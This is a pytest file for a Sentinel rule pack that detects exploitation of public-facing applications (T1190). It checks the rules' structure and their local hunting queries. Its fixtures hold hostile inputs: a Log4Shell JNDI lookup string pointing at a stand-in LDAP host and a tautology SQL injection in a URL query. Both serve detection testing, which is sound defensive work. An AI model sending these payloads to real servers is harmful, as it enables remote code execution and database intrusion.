"""The three companion rules: well-formed Sentinel rules, and local hunts find their scenarios."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sentinel_t1190 import detection
from sentinel_t1190.hunt import required_columns
from sentinel_t1190.rules import Rule, load_pack
from sentinel_t1190.ruletest import _compare, load_cases
from sentinel_t1190.schema import known_tables

COMPANIONS = {
    "web_shell_file_in_web_root": ("DeviceFileEvents",),
    "log4shell_jndi_lookup": ("W3CIISLog", "CommonSecurityLog", "DeviceNetworkEvents"),
    "sql_injection_in_request": ("W3CIISLog",),
}
GUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")


def _rule(stem: str) -> Rule:
    [rule] = load_pack().select([stem])
    return rule


@pytest.mark.parametrize("stem", COMPANIONS)
def test_companion_is_a_full_sentinel_rule(stem: str) -> None:
    rule = _rule(stem)
    assert GUID.match(rule.id)
    assert rule.tables == COMPANIONS[stem]
    assert "T1190" in rule.techniques and "InitialAccess" in rule.tactics
    assert rule.data["queryFrequency"] == rule.data["queryPeriod"] == "1h"
    assert rule.data["kind"] == "Scheduled" and rule.severity in ("High", "Medium")
    assert 1 <= len(rule.data["entityMappings"]) <= 10
    assert 1 <= len(rule.data["customDetails"]) <= 20
    assert len(rule.query) <= 10_000
    # Every column the mappings name is one the query outputs.
    outputs = _output_columns(rule)
    named = {f["columnName"] for m in rule.data["entityMappings"] for f in m["fieldMappings"]}
    assert named | set(rule.data["customDetails"].values()) <= outputs
    assert rule.hunting is not None and GUID.match(rule.hunting.id)
    for table in rule.tables:
        assert table in known_tables() and "source" in _schema_doc(table)


def _output_columns(rule: Rule) -> set[str]:
    from sentinel_t1190.engine import LocalEngine

    with LocalEngine() as engine:
        for table in rule.tables:
            engine.load_empty(table)
        columns, _ = engine.query(rule.query)
    return set(columns)


def _schema_doc(table: str) -> dict[str, Any]:
    import json

    path = Path(__file__).resolve().parent.parent / "sentinel_t1190/schemas" / f"{table}.json"
    return dict(json.loads(path.read_text()))


def test_web_shell_rule_maps_persistence_web_shell() -> None:
    rule = _rule("web_shell_file_in_web_root")
    assert rule.tactics == ("InitialAccess", "Persistence")
    assert "T1505.003" in rule.techniques


@pytest.mark.parametrize("stem", COMPANIONS)
def test_hunting_query_is_the_rule_over_a_window(stem: str) -> None:
    rule = _rule(stem)
    assert rule.hunting is not None
    expected = re.sub(r"(\w+) > ago\(1h\)", r"\1 > starttime and \1 <= endtime", rule.query)
    expected = expected.replace('| extend FileHashAlgorithm = "SHA256"\n', "")
    assert rule.hunting.query == ("let starttime = todatetime('{{StartTimeISO}}');\n"
                                  "let endtime = todatetime('{{EndTimeISO}}');\n" + expected)


def _export(rule: Rule, folder: Path) -> tuple[list[str], list[dict[str, Any]]]:
    """All fixture events of *rule* as CSV files named after their tables (a portal export)."""
    cases, problems = load_cases(rule)
    assert not problems
    assert len({c.now for c in cases}) == 1
    by_table: dict[str, list[dict[str, Any]]] = {}
    for case in cases:
        for table, rows in case.events.items():
            by_table.setdefault(table, []).extend(rows)
    assert rule.hunting is not None
    needed = required_columns(rule, rule.hunting.query)  # a real export has every column
    files = []
    for table, rows in by_table.items():
        path = folder / f"{table}.csv"
        columns = sorted({c for row in rows for c in row} | needed[table])
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.DictWriter(handle, fieldnames=columns)
            writer.writeheader()
            writer.writerows(rows)
        files.append(str(path))
    expected = [dict(e) for case in cases for e in case.expect]
    return files, expected


@pytest.mark.parametrize("stem", [*COMPANIONS, "web_server_child_process",
                                  "linux_web_server_child_process"])
def test_local_hunt_over_an_export_finds_the_scenario_and_ignores_look_alikes(
        stem: str, tmp_path: Path, cli: Callable) -> None:
    rule = _rule(stem)
    files, expected = _export(rule, tmp_path)
    now = "2026-03-01T12:00:00Z"
    timespan = "24h" if rule.id == detection.RULE_ID else "1h"
    run = cli("hunt", "--rule", stem, "--local", *files, "--now", now, "--timespan", timespan,
              "-o", "json")
    assert run.code == 0, run.stderr
    doc = run.json()
    assert doc["rule"]["id"] == rule.id
    # CSV carries text: compare the export's findings as text too.
    got = [{k: None if v is None else str(v) for k, v in row.items()} for row in
           doc["findings"]]
    # FileHashAlgorithm only feeds the scheduled rule's FileHash entity.
    want = [{k: str(v) for k, v in e.items() if k != "FileHashAlgorithm"} for e in expected]
    missing, unexpected = _compare(want, got)
    assert (missing, unexpected) == ([], [])
    assert doc["summary"]["total"] == len(expected)
    assert sum(doc["summary"]["by_evidence"].values()) == len(expected)


def test_log4shell_hunts_with_only_iis_logs(tmp_path: Path, cli: Callable) -> None:
    path = tmp_path / "W3CIISLog.csv"
    path.write_text("TimeGenerated,Computer,cIP,csUserName,csUriStem,csUriQuery,csUserAgent,"
                    "csReferer,csCookie\n"
                    "2026-03-01T11:30:00Z,web-01,198.51.100.23,-,/,-,${jndi:ldap://x/a},-,-\n"
                    "2026-03-01T11:31:00Z,web-01,198.51.100.24,-,/,q=1,Mozilla/5.0,-,-\n")
    run = cli("hunt", "--rule", "log4shell_jndi_lookup", "--local", str(path),
              "--now", "2026-03-01T12:00:00Z", "--timespan", "1h", "-o", "json")
    assert run.code == 0, run.stderr
    [finding] = run.json()["findings"]
    assert finding["SourceIP"] == "198.51.100.23"
    assert finding["ExploitEvidence"] == "JNDI lookup in request"


def test_hunt_table_output_shows_companion_columns(tmp_path: Path, cli: Callable) -> None:
    path = tmp_path / "W3CIISLog.csv"
    path.write_text("TimeGenerated,Computer,sSiteName,cIP,csMethod,csUriStem,csUriQuery,"
                    "scStatus,csUserAgent\n2026-03-01T11:30:00Z,web-01,W3SVC1,198.51.100.23,"
                    "GET,/p.aspx,id=1'+or+1=1--,500,-\n")
    run = cli("hunt", "--rule", "sql_injection_in_request", "--local", str(path),
              "--now", "2026-03-01T12:00:00Z", "--timespan", "1h")
    assert run.code == 0, run.stderr
    assert "198.51.100.23" in run.stdout and "Tautology SQLi" in run.stdout
